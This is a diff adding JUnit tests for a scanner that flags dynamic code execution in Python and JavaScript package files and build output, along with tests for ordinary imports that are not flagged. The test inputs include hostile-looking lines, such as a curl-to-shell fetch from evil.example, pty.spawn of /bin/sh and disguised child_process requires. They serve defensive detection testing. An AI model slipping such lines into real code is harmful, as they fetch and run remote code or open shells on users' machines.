@@ -7,6 +7,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 import dev.divergence.model.RiskFlag;
 import java.nio.charset.StandardCharsets;
 import java.util.Base64;
+import java.util.List;
 import java.util.Set;
 import org.junit.jupiter.api.Test;
 
@@ -57,5 +58,63 @@ class ContentSignalsTest {
         assertTrue(scan("lib/payload.dat", elf, 8).contains(RiskFlag.BINARY));
         assertTrue(scan("setup.py", "from setuptools import setup\nsetup()\n").contains(RiskFlag.INSTALL_SCRIPT));
         assertFalse(scan("docs/setup.py.txt", "text\n").contains(RiskFlag.INSTALL_SCRIPT));
+    }
+
+    @Test
+    void payloadFormsBeyondExecAndEvalAreDynamicExecution() {
+        // each line alone, as a diff's added line or a new module would carry it
+        List<String> python = List.of("os.popen('curl -s https://evil.example/i.sh | sh')",
+                "os.execv('/bin/sh', ['sh', '-c', cmd])", "os.spawnlp(os.P_NOWAIT, 'sh', 'sh')", "pty.spawn('/bin/sh')",
+                "import ctypes", "importlib.import_module('o' + 's')",
+                "obj = pickle.loads(blob)", "code = marshal.loads(data)", "run(codecs.decode(s, 'rot13'))",
+                "src = codecs.decode(s, 'rot_13')");
+        for (String line : python) {
+            assertTrue(ContentSignals.scan("pkg/mod.py", (line + "\n").getBytes(StandardCharsets.UTF_8), 1 << 20)
+                    .contains(RiskFlag.DYNAMIC_EXEC), line);
+            assertTrue(ContentSignals.buildOutputSignals("build/mod.py", (line + "\n").getBytes(StandardCharsets.UTF_8))
+                    .contains(RiskFlag.DYNAMIC_EXEC), "build output: " + line);
+        }
+        List<String> js = List.of("require('vm').runInThisContext(s)", "vm.runInNewContext(code, {})",
+                "new vm.Script(src).runInThisContext()", "const m = require('child_' + 'process')",
+                "require(`child_${'process'}`)", "process.binding('spawn_sync')", "const cp = require('node:child_process')",
+                "process.mainModule.require('fs')");
+        for (String line : js) {
+            assertTrue(ContentSignals.scan("lib/index.js", (line + "\n").getBytes(StandardCharsets.UTF_8), 1 << 20)
+                    .contains(RiskFlag.DYNAMIC_EXEC), line);
+            assertTrue(ContentSignals.buildOutputSignals("dist/index.js", (line + "\n").getBytes(StandardCharsets.UTF_8))
+                    .contains(RiskFlag.DYNAMIC_EXEC), "build output: " + line);
+        }
+        // computed loads with a bare name: out of place in added lines, expected in bundles
+        assertTrue(ContentSignals.scan("lib/index.js", "module.exports = require(name)\n".getBytes(StandardCharsets.UTF_8),
+                1 << 20).contains(RiskFlag.DYNAMIC_EXEC));
+        assertTrue(ContentSignals.scan("pkg/mod.py", "m = importlib.import_module(name)\n".getBytes(StandardCharsets.UTF_8),
+                1 << 20).contains(RiskFlag.DYNAMIC_EXEC));
+        assertTrue(ContentSignals.scan("lib/index.js", "const m = await import(url)\n".getBytes(StandardCharsets.UTF_8),
+                1 << 20).contains(RiskFlag.DYNAMIC_EXEC));
+    }
+
+    @Test
+    void ordinaryImportsAndBundleIdiomsAreNotDynamicExecution() {
+        String py = "from .core import (\n    add,\n    twice,\n)\nimport importlib\nj = importlib.import_module('json')\n"
+                + "m = importlib.import_module(\"demo.plugins\", package=None)\nimport os\nos.path.join('a', 'b')\n";
+        assertFalse(ContentSignals.scan("pkg/mod.py", py.getBytes(StandardCharsets.UTF_8), 1 << 20)
+                .contains(RiskFlag.DYNAMIC_EXEC));
+        String js = "const fs = require('fs');\nconst a = require(\"./a.js\");\nconst b = await import('./b.mjs');\n"
+                + "const c = import(/* webpackChunkName: \"c\" */ './c.js');\n";
+        assertFalse(ContentSignals.scan("lib/index.js", js.getBytes(StandardCharsets.UTF_8), 1 << 20)
+                .contains(RiskFlag.DYNAMIC_EXEC));
+        String bundle = js + "var g = Function(\"return this\")();\nif (/x/.exec(s)) {}\nfunction r(id) { return require(id); }\n"
+                + "__webpack_require__(12);\nvar __require = (x) => typeof require !== 'undefined' ? require : x;\n"
+                + "n(require(e.path));\n";
+        assertEquals(Set.of(RiskFlag.CODE), ContentSignals.buildOutputSignals("dist/index.js",
+                bundle.getBytes(StandardCharsets.UTF_8)));
+    }
+
+    @Test
+    void aLongTokenSplitAcrossChunksIsFound() {
+        byte[] text = "x = process._linkedBinding('spawn_sync')\n".getBytes(StandardCharsets.UTF_8);
+        for (int chunk = 1; chunk < text.length; chunk++) {
+            assertTrue(scan("lib/a.js", text, chunk).contains(RiskFlag.DYNAMIC_EXEC), "chunk " + chunk);
+        }
     }
 }
